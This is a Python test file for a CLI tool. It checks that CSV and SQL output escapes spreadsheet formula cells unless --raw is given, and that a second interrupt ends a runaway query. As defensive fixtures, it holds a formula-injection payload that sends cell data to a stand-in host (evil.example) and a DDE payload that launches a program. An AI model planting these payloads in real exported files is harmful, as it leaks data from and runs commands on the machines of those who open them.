"""CSV that is opened in a spreadsheet runs nothing; numbers stay numbers; --raw gives every byte."""

from __future__ import annotations

import csv
import io
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from hf_providers.text import for_spreadsheet
from tests.cli.hfp import Hfp, catalog, model, offer, provider

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", "--1", "+-", "-", "-1.2.3"]
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert for_spreadsheet(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-1", "+1", "-0.000000001", "1", "a=b", "", "'=1", "acme/Chat"])
def test_numbers_and_other_text_stay(text: str) -> None:
    assert for_spreadsheet(text) == text


def test_names_of_strangers_are_quoted_unless_raw(hfp: Hfp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    models = [model("=cmd/Model-1", license=FORMULA, likes=3)]
    rows = {"models": models, "offers": [offer("=cmd/Model-1", "p")], "providers": [provider("p")]}
    path = catalog(tmp_path / "catalog.sqlite", rows)
    monkeypatch.setenv("HFP_SNAPSHOT", str(path))
    assert cells(hfp("models", "--format", "csv").out)[1][0] == "'=cmd/Model-1"
    assert cells(hfp("models", "--format", "csv", "--raw").out)[1][0] == "=cmd/Model-1"
    assert hfp("models", "--json").rows[0]["model_id"] == "=cmd/Model-1"


def test_sql_quotes_text_and_no_number(hfp: Hfp, data: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HFP_SNAPSHOT", str(data))
    query = "SELECT '=1+1' AS \"=a\", -0.5::DECIMAL(9,2) AS d, -7 AS n, -1.5::DOUBLE AS f, 1e-9::DOUBLE AS small"
    assert cells(hfp("sql", query, "--format", "csv").out) == [
        ["'=a", "d", "n", "f", "small"],
        ["'=1+1", "-0.5", "-7", "-1.5", "1e-09"],
    ]
    assert cells(hfp("sql", query, "--format", "csv", "--raw").out)[1][0] == "=1+1"


def test_sql_quotes_text_in_a_file_too(hfp: Hfp, data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HFP_SNAPSHOT", str(data))
    texts = [FORMULA, "-2+3", "@SUM(1)", "\tx", "\rx", "--1", "-", "-1", "+1.50", "'=1", "a=b", "=1\n2", "-1\n"]
    listed = ", ".join("'" + text.replace("'", "''") + "'" for text in texts)
    query = f'SELECT unnest([{listed}]) AS "=a", -7 AS n, -0.5::DECIMAL(9,2) AS n -- rows'
    path = tmp_path / "rows.csv"
    assert hfp("sql", query, "--out", str(path)).code == 0
    written = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
    assert written[0][:2] == ["'=a", "n"]
    assert written[1:] == [[for_spreadsheet(text), "-7", "-0.50"] for text in texts]
    assert hfp("sql", query, "--out", str(path), "--raw").code == 0
    raw = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
    assert [row[0] for row in raw] == ["=a", *texts]


def cpu_ticks(pid: int) -> int:
    """How long a process has worked, in hundredths of a second."""
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[11])


ENDLESS = """
import sqlite3
from hf_providers import interrupts
interrupts.end_at_second()
print("ready", flush=True)
query = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n"
sqlite3.connect(":memory:").execute(query).fetchall()
"""


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="no /proc, which tells that the statement runs")
def test_a_second_interrupt_ends_what_does_not_listen() -> None:
    """Python hears of no signal while a library works: the statement here has no end."""
    command = [sys.executable, "-c", ENDLESS]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        begun = cpu_ticks(process.pid)
        while cpu_ticks(process.pid) < begun + 20:  # until it is in the statement for sure
            pass
        process.send_signal(signal.SIGINT)
        with pytest.raises(subprocess.TimeoutExpired):
            process.wait(timeout=0.3)
        process.send_signal(signal.SIGINT)
        try:
            assert process.wait(timeout=30) == 130
        finally:
            process.kill()
